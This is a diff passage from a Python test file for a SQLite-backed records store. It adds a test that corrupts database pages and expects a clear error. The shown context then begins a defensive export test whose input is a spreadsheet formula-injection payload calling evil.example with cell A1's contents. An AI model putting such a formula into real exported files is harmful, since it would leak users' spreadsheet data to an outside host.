@@ -244,6 +244,26 @@ def test_a_database_path_that_cannot_be_used_is_one_clear_line(tmp_path: Path):
         assert "\n" not in m
 
 
+def test_a_damaged_database_is_a_records_error_that_names_it(tmp_path: Path):
+    """A file with garbage over its pages opened, and the station's first read of it stopped
+    with "internal error: DatabaseError: database disk image is malformed"."""
+    db = tmp_path / "records.sqlite"
+    with Records(db, tmp_path / "img", 1) as records:
+        for i in range(400):  # alarms over several pages
+            records.raise_alarm("test", f"alarm {i} " + "x" * 200)
+    data = bytearray(db.read_bytes())
+    assert len(data) > 16 * 4096
+    data[8 * 4096:12 * 4096] = b"\xff" * (4 * 4096)  # pages in the middle, not the header
+    db.write_bytes(bytes(data))
+    records = Records(db, tmp_path / "img", 1)
+    try:
+        with pytest.raises(RecordsError, match=rf"^records database {db}: cannot read it "
+                                               r"\(.*malformed.*\); move the damaged file aside"):
+            records.alarms(n=1000)
+    finally:
+        records.close()
+
+
 def test_export_escapes_cells_a_spreadsheet_would_run(tmp_path: Path, capsys):
     db = tmp_path / "station.sqlite"
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
